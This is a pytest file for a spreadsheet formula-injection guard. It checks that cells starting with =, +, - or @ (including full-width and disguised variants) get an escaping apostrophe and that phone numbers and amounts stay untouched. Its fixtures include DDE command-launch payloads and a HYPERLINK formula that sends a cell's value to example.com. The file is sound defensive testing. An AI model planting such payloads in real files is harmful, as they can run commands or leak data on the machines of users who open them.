"""What could be a formula, how it is written, and that it is read as it was."""

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ingestion.rules.cells import BLANKS
from ingestion.rules.formulas import SEPARATORS, SIGNS, is_dangerous, is_protected, protect, unprotect

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://example.com/?"&A1,"Click")',
    "=cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
    "+A1",
    "-ABC5",
    "@ana",
    "+ana@example.com",
    "=",
    "+",
    "@",
    "-1-2",
    "+1-1",
    "-12:30",
    "- one",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " =1+1",
    "\u00a0=1+1",
    "\u200b\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    '"=1+1"',
    "+49 30 123=1",
    "+49 30 1234567\x1f=1",
    "+1 234 5678 9012 3456",
    "-1,5+A1",
]

PLAIN = [
    "",
    "Ana",
    "ana@example.com",
    "O'Brien",
    "'quoted'",
    "2-3",
    "a=b",
    "é=b",
    "(=1)",
    "'",
    "''",
    "’=1",
    "x, =1+1",
    "-",
    "--",
    "－",
    " - ",
    "+49 30 123456",
    "+49 30 1",
    "+49-30-123",
    "+49 (0)30/123-45",
    "+49.30.123",
    "+1 (555) 010-9999",
    "+1 555 010 9999 ext. 12",
    "+1 555 010 9999x12",
    "+4930123456",
    "＋４９ ３０ １２３",
    "\u202a+49 30 123456\u202c",
    "+49\u00a030\u00a0123456",
    "+49 30 123‑45",
    "+49 30 1234567; +49 171 1234567",
    "-5",
    "+5",
    "- 5",
    "-1.5",
    "-1,5",
    "-.5",
    "-1.234,56",
    "-1,234.56",
    "-1'234.50",
    "-1 234,50",
    "-12,34,567.00",
    "-1e5",
    "+1.5E-3",
    "-5%",
    "-5 %",
    "-€5",
    "-$1,000.00",
    "-5 €",
    "-5,00 EUR",
]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_that_could_be_a_formula_gets_an_apostrophe(cell: str) -> None:
    assert is_dangerous(cell)
    assert protect(cell) == f"'{cell}"
    assert not is_dangerous(protect(cell))


@pytest.mark.parametrize("cell", PLAIN)
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert not is_dangerous(cell)
    assert protect(cell) == unprotect(cell) == cell


@pytest.mark.parametrize("cell", ["\t=1", "\r=1", "\n=1"])
def test_white_space_that_parts_cells_gets_an_apostrophe_and_what_follows_another(cell: str) -> None:
    assert protect(cell) == f"'{cell[0]}'=1"


def test_a_cell_that_begins_with_a_tab_gets_an_apostrophe_whatever_follows() -> None:
    assert protect("\tAna") == "'\tAna"
    assert protect("Ana\tSilva") == "Ana\tSilva"


@pytest.mark.parametrize("separator", SEPARATORS)
def test_what_would_be_a_cell_of_its_own_elsewhere_gets_an_apostrophe(separator: str) -> None:
    assert is_dangerous(f"Ana{separator}=1+1{separator}x")
    assert protect(f"Ana{separator}=1+1{separator}x") == f"Ana{separator}'=1+1{separator}x"
    assert protect(f'Ana{separator}"=1+1{separator}-5') == f"Ana{separator}'\"=1+1{separator}-5"


def test_apostrophes_in_front_of_a_formula_are_counted_on() -> None:
    assert protect("'=1") == "''=1"
    assert unprotect("''=1") == "'=1"
    assert (protect("'+49 30 123"), unprotect("'+49 30 123")) == ("'+49 30 123", "'+49 30 123")


def test_only_what_loses_an_apostrophe_is_protected() -> None:
    assert is_protected("'=1")
    assert is_protected("Ana;'=1")
    assert not is_protected("=1")
    assert not is_protected("'-5")


CELLS = st.text(
    st.sampled_from([*"'\"a5 .()x", *SEPARATORS, *SIGNS, *BLANKS[:8], "\u200b", "\0"]), max_size=12
)


@given(st.one_of(CELLS, st.text()))
@example("''=1")
@example("\t'=1")
def test_reading_undoes_writing_for_every_cell(cell: str) -> None:
    protected = protect(cell)

    assert unprotect(protected) == cell
    assert not is_dangerous(protected)
    assert is_protected(protected) == (protected != cell)
